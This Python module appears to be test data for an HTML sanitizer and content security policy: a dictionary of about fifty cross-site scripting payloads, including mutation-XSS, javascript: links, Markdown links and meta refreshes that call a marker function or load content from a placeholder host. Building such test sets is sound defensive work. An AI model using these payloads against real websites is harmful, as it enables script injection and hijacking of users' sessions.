"""Texts that act as soon as a browser takes them for markup: each calls pwned(), opens a dialog or asks another host."""

from __future__ import annotations

from typing import Final

HOST: Final = "ond.example"

# By name; {n} is replaced by a number, so that every text is one of a kind.
ATTACKS: Final[dict[str, str]] = {
    "script": "<script>pwned({n})</script>",
    "script from elsewhere": "<script src=//ond.example/{n}.js></script>",
    "script of a kind": "<script type=module>import('//ond.example/{n}.js');pwned({n})</script>",
    "broken tag": "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "capital letters": "<ScRiPt>pwned({n})</sCrIpT>",
    "slash": "<script/x>pwned({n})</script>",
    "picture's error": "<img src=x{n} onerror=pwned({n})>",
    "picture's error, quoted": "<img src='x{n}' onerror='pwned({n})'>",
    "picture from elsewhere": "<img src=https://ond.example/{n}.png>",
    "picture set": "<img srcset='//ond.example/{n}.png 1x'>",
    "drawing": "<svg/onload=pwned({n})>",
    "drawing's script": "<svg><script>pwned({n})</script></svg>",
    "drawing's animation": "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>",
    "drawing's picture": "<svg><image href=//ond.example/{n}.svg></svg>",
    "drawing's use": "<svg><use href=//ond.example/{n}.svg#a></svg>",
    "formula": "<math><mtext><table><mglyph><style><img src=x{n} onerror=pwned({n})></style></mglyph></table></mtext></math>",
    "drawing that mutates": "<svg></p><style><a id='</style><img src=x{n} onerror=pwned({n})>'></style></svg>",
    "noscript that mutates": "<noscript><p title='</noscript><img src=x{n} onerror=pwned({n})>'></noscript>",
    "template": "<template><script>pwned({n})</script></template><details open ontoggle=pwned({n})>x</details>",
    "frame": "<iframe src=//ond.example/{n}></iframe>",
    "frame with a page": "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "frame with script": "<iframe src=javascript:parent.pwned({n})></iframe>",
    "object": "<object data=//ond.example/{n}></object>",
    "embedded": "<embed src=//ond.example/{n}>",
    "style sheet": "<link rel=stylesheet href=//ond.example/{n}.css>",
    "style": "<style>@import '//ond.example/{n}.css'; body {{ display: none }}</style>",
    "style attribute": "<p style='background: url(//ond.example/{n}.png); position: fixed; inset: 0'>x</p>",
    "base": "<base href=//ond.example/{n}/>",
    "manifest": "<link rel=manifest href=//ond.example/{n}.json>",
    "focus": "<input autofocus onfocus=pwned({n})>",
    "toggled": "<details open ontoggle=pwned({n})>x</details>",
    "animated": "<p onanimationstart=pwned({n}) onpointerover=pwned({n})>x</p>",
    "body": "<body onload=pwned({n})>",
    "video": "<video src=//ond.example/{n}.mp4 onerror=pwned({n}) autoplay></video>",
    "audio": "<audio src=x{n} onerror=pwned({n})></audio>",
    "track": "<video><source onerror=pwned({n})></video>",
    "link with script": "<a href=javascript:pwned({n})>klicka</a>",
    "link with script in letters": "<a href=jav&#x09;ascript:pwned({n})>klicka</a>",
    "link with a page": "<a href='data:text/html,<script>opener.pwned({n})</script>'>klicka</a>",
    "drawing's link": "<svg><a xlink:href=javascript:pwned({n})><text y=20>klicka</text></a></svg>",
    "Markdown's link": "[klicka](javascript:pwned({n}))",
    "Markdown's picture": "![bild](https://ond.example/{n}.png)",
    "button": "<form><button formaction=javascript:pwned({n})>klicka</button></form>",
    "form": "<form action=https://ond.example/{n}><button>klicka</button></form>",
    "attribute list": "ord {{: onpointerover=pwned({n}) style=position:fixed }}",
    "attribute": '" onpointerover=pwned({n}) autofocus onfocus=pwned({n}) x="',
    "end of everything": "</p></div></article></main></div><script>pwned({n})</script>",
    "end of the title": "</title></head><body><script>pwned({n})</script>",
    "comment": "<!--><img src=x{n} onerror=pwned({n})>-->",
}
# What the policy alone does not stop, because CSP does not govern it: the two other layers must.
REFRESHES: Final[dict[str, str]] = {
    "refresh": "<meta http-equiv=refresh content='0;url=//ond.example/{n}'>",
    "refresh to a page": "<meta http-equiv=refresh content='0;url=data:text/html,<script>pwned({n})</script>'>",
}


def texts(attacks: dict[str, str]) -> tuple[str, ...]:
    """The attacks, numbered."""
    return tuple(text.format(n=number) for number, text in enumerate(attacks.values()))
